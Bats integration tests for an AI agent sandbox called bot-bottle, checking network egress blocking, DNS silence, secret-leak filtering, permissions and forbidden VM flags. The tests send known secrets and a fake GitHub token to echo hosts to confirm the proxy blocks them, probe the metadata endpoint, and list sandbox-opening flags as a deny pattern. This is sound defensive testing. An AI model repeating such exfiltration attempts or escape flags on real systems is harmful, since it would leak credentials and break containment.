# SPDX-License-Identifier: MIT
# Where: lab up
# up.bats: a bottle that runs, seen from inside and from outside.
load lab.bash

setup_file() {
	export OUT=$BATS_FILE_TMPDIR CANARY=$BATS_FILE_TMPDIR/canary.log NET=192.168.108
	host_addr=$(ip -4 -o addr show inet0 | awk '{ sub("/.*", "", $4); print $4 }')
	export host_addr
	: >/var/log/lab/canary.log
	: >/var/log/lab/dns.log
	"$PROJECT/tests/lab/canary" start "$CANARY" tcp:0.0.0.0:7777 udp:0.0.0.0:7777 3>&-
	# Everything that needs an interpreter in the guest, in one go: an exec costs seconds here.
	bb-vm exec demo -i -- python3 - tcp:$NET.2:8888 tcp:$NET.2:9418 tcp:$NET.2:9100 tcp:$NET.2:9099 tcp:$NET.2:22 \
		tcp:$NET.1:7777 tcp:127.0.0.1:7777 tcp:"$host_addr":7777 tcp:172.17.0.1:7777 tcp:100.96.0.1:7777 \
		tcp:1.1.1.1:443 tcp:1.1.1.1:53 tcp:8.8.8.8:853 tcp:93.184.216.34:443 tcp:169.254.169.254:80 \
		udp:$NET.1:7777 udp:"$host_addr":7777 udp:1.1.1.1:53 udp:93.184.216.53:53 udp:100.96.0.1:53 \
		name:api.example.com name:nonce-4711.canary.test \
		<"$PROJECT/tests/lab/probe.py" >"$OUT/probe" 2>"$OUT/probe.err" 3>&- || { cat "$OUT/probe.err"; false; }
	sleep 2
}

teardown_file() {
	"$PROJECT/tests/lab/canary" stop "$CANARY"
}

probed() { grep -F "$1 " "$OUT/probe"; }

@test "the guest has a kernel of its own" {
	run guest -- uname -r
	assert_success
	refute_output "$(uname -r)"
}

@test "what was provisioned was verified from the guest" {
	run bb-plan get provision.verified --plan "$HOME/.local/state/bot-bottle/bottles/demo/11-provision.json"
	assert_output '["init","env","ca","git","supervise"]'
}

@test "the three ports of the bundle answer from the guest" {
	for port in 8888 9418 9100; do
		run probed "tcp:$NET.2:$port"
		assert_output "tcp:$NET.2:$port open"
	done
}

@test "9099 listens in the bundle and is closed for guest and host" {
	run docker exec bot-bottle-bundle-demo cat /proc/net/tcp
	assert_output --partial '0100007F:238B'
	run probed "tcp:$NET.2:9099"
	assert_output --partial refused
	run ! nc -z -w 5 $NET.2 9099
}

@test "no other address is reached, and the canaries heard nothing from the guest" {
	# UDP has no handshake, and smolvm's gateway takes port 53 of any address itself ("no such name"): there the
	# canaries decide.
	run bash -c "grep '^tcp:.* open' '$OUT/probe' | grep -v ':53 open'"
	assert_output "$(printf '%s\n' "tcp:$NET.2:8888 open" "tcp:$NET.2:9418 open" "tcp:$NET.2:9100 open")"
	run canary heard "$CANARY"
	assert_failure 1
	run canary heard /var/log/lab/canary.log
	assert_failure 1
}

@test "the same canaries are heard from the host: their silence means something" {
	for addr in 127.0.0.1 $NET.1 "$host_addr" 172.17.0.1; do
		run nc -w 3 "$addr" 7777 </dev/null
		assert_output canary
	done
	run nc -w 3 1.1.1.1 443 </dev/null
	assert_output canary
	run canary heard "$CANARY"
	assert_success
	canary clear "$CANARY"
	: >/var/log/lab/canary.log
}

@test "no name is resolved and no resolver is asked" {
	run grep '^name:' "$OUT/probe"
	refute_output --partial resolved
	run cat /var/log/lab/dns.log
	refute_output --partial canary.test
	refute_output --partial api.example.com
}

@test "an allowed host answers, with the credential that only the bundle knows" {
	: >/var/log/lab/echo.log
	run guest -- curl -sS --max-time 120 https://api.example.com/hello
	assert_success
	assert_output --partial '"path": "/hello"'
	refute_output --partial "$DEMO_API_KEY"
	run cat /var/log/lab/echo.log
	assert_output --partial "Bearer $DEMO_API_KEY"
}

@test "a known secret is refused, whatever is sent it in; a finding passes when the operator waives it" {
	local token id
	token=$(docker exec bot-bottle-bundle-demo cat /run/bottle/token)
	for secret in "$DEMO_API_KEY" "$token" "$(printf '{"s":"%s"}' "$token" | base64 -w 0)"; do
		# By standard input: no command line has ever had one.
		run bb-vm exec demo -i -- curl -sS --max-time 120 --data-binary @- https://echo.example.net/known <<<"see $secret"
		assert_output --partial 'rule known-secret matched'
	done
	set -- curl -sS --max-time 120 -d "see ghp_$(sha256sum <<<waive | cut -c 1-36)" https://echo.example.net/waived
	run guest -- "$@"
	assert_output --partial 'rule github-pat matched in body'
	id=$(grep -o '[0-9a-f]\{16\}$' <<<"$output")
	run bb-bundle waive demo "$id"
	assert_success
	run guest -- "$@"
	assert_output --partial '"path": "/waived"'
	run -1 bb-bundle waive demo 0123456789abcdef
}

@test "a forbidden host is refused with 403, policy and host named" {
	run guest -- curl -sS --max-time 120 -w '%{http_code}' https://blocked.example.org/
	assert_output --partial 403
	assert_output --partial allowlist
	assert_output --partial blocked.example.org
	run cat /var/log/lab/echo.log
	refute_output --partial blocked.example.org
}

@test "row and launched configuration hold the one address" {
	run bb-tsi-patch check --plan "$HOME/.local/state/bot-bottle/bottles/demo/plan.json"
	assert_success
	assert_output --partial '"verified":true'
}

@test "the agent's user owns its home, /tmp is sticky, the environment is its own alone" {
	run guest -- sh -c 'id -un; stat -c "%U %a" /home/agent /tmp; stat -c "%U %a" /run/bot-bottle/env; pwd'
	assert_success
	assert_line --index 0 agent
	assert_line --index 1 --regexp '^agent '
	assert_line --index 2 'root 1777'
	assert_line --index 3 'agent 600'
	assert_line --index 4 /home/agent/work
}

@test "what holds the bottle is the operator's alone (W19)" {
	run stat -c '%a %n' "$HOME/.local/state/bot-bottle" "$HOME/.local/state/bot-bottle/bottles/demo/plan.json" \
		"$HOME/.local/share/smolvm/server/smolvm.db" "$HOME/.cache/bot-bottle/smolmachines"
	assert_line --index 0 --partial '700 '
	assert_line --index 1 --partial '600 '
	assert_line --index 2 --partial '600 '
	assert_line --index 3 --partial '700 '
	vmm=$(pgrep -f _boot-vm)
	run grep 'Max core file size *0 ' "/proc/$vmm/limits"
	assert_success
}

@test "nothing of the image runs: its command was replaced by a sleeper (W14)" {
	run guest -- sh -c 'for p in /proc/[0-9]*; do tr "\0" " " <$p/cmdline; echo; done'
	assert_success
	assert_output --partial 'sleep 2147483647'
	refute_output --partial image-cmd
}

@test "secrets are in the guest's environment and nowhere else" {
	run guest -- sh -c 'echo "$DEMO_NOTE"; echo "$HTTPS_PROXY"'
	assert_line --index 0 "$DEMO_NOTE"
	assert_line --index 1 http://127.0.0.1:18888
	token=$(docker exec bot-bottle-bundle-demo cat /run/bottle/token)
	# The relay alone has it (W35).
	run guest -- sh -c "cat /proc/[0-9]*/environ /run/bot-bottle/* /etc/gitconfig 2>/dev/null | tr '\\0' '\\n'"
	assert_line --partial "$DEMO_NOTE"
	refute_output --partial "$token"
	refute_output --partial "$(printf 'bottle:%s' "$token" | base64 -w 0)"
	for secret in "$DEMO_API_KEY" "$DEMO_NOTE" "$token"; do
		run grep -rlF -- "$secret" "$HOME/.local/state" "$HOME/.local/share/smolvm/server" \
			"$HOME/.cache/bot-bottle" "$HOME/calls"
		assert_failure 1
		run sh -c 'docker inspect bot-bottle-bundle-demo; docker logs bot-bottle-bundle-demo 2>&1'
		refute_output --partial "$secret"
	done
}

@test "statuses of the guest's command come back as they are" {
	for n in 0 1 42; do
		run guest -- sh -c "exit $n"
		equals "$n" "$status"
	done
	run -127 guest -- no-such-program
	equals 127 "$status"
	run guest -- /etc/passwd
	equals 126 "$status"
	run guest -- sh -c 'kill -9 $$'
	equals 137 "$status"
}

@test "standard input arrives and stdout and stderr stay apart" {
	head -c 300000 /dev/urandom >"$OUT/in"
	bb-vm exec demo -i -- sh -c 'cat; echo aside >&2' <"$OUT/in" >"$OUT/back" 2>"$OUT/err" 3>&-
	cmp "$OUT/in" "$OUT/back"
	run grep -v '^note: no packed assets' "$OUT/err"
	assert_output aside
}

@test "a file goes in and comes back the same" {
	head -c 200000 /dev/urandom >"$OUT/file"
	bb-vm cp "$OUT/file" demo:/home/agent/file 3>&-
	bb-vm cp demo:/home/agent/file "$OUT/again" 3>&-
	cmp "$OUT/file" "$OUT/again"
	run bb-vm cp demo:/no/such "$OUT/none" 3>&-
	assert_failure 74
	assert [ ! -e "$OUT/none" ]
}

@test "a second start of the same bottle is refused and harms nothing" {
	run bb-start --yes "$PROJECT/tests/lab/demo.json" </dev/null
	assert_failure 75
	assert_output --partial 'exists already'
	run bb-vm create --plan "$HOME/.local/state/bot-bottle/bottles/demo/plan.json"
	assert_failure 75
	run guest -- true
	assert_success
}

@test "the agent command of the manifest runs as its user" {
	run guest --
	assert_success
	assert_output 'the agent runs as agent'
}

@test "no smolvm call ever had a flag that opens the sandbox (W13)" {
	run grep -P '^smolvm\t' "$HOME/calls"
	assert_success
	refute_output --regexp $'\t(-v|--volume|-p|--port|--outbound-localhost-only|serve|--docker-socket|--ssh-agent)(\t|$)'
}

@test "the bundle's log and the console are shown without control characters" {
	run bb-bundle logs demo
	assert_success
	assert_output --partial '"deny"'
	run bb-vm logs demo
	assert_success
	refute_output --partial $'\033'
}
